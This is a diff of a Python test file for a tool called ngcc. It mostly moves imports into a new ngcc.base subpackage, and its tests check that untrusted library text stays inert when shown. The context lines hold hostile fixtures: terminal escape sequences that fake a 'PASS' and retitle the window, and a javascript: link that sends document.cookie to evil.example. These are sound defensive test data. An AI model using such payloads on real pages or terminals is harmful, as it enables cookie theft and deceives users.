@@ -1,4 +1,4 @@
-"""Library text is data wherever it is shown (ngcc/_untrusted.py): inert in Markdown,
+"""Library text is data wherever it is shown (ngcc/base/untrusted.py): inert in Markdown,
 in HTML and on the terminal; files read without blocking, JSON with a bounded depth.
 
 The hostile text is the issue's: a forged link to ``javascript:``, one to ``data:``,
@@ -21,10 +21,12 @@ from _fakerun import make_run
 from _testlib import CHANNEL_FD_SOURCE, FORGE_ERROR_STATEMENTS, build_library
 
 import ngcc
-from ngcc import _export, _files, _records, _report, _untrusted
-from ngcc._errors import CorruptRecordError, NgccError
+from ngcc import _export, _records, _report
 from ngcc._run import load_run
 from ngcc._validate import check_links, validate
+from ngcc.base import files as _files
+from ngcc.base import untrusted as _untrusted
+from ngcc.base.errors import CorruptRecordError, NgccError
 
 ESCAPES = "\033[2J\033]0;owned\007\033[31mFAKE PASS"
 HOSTILE = ("[the log](javascript:location='//evil.example/?'+document.cookie) "
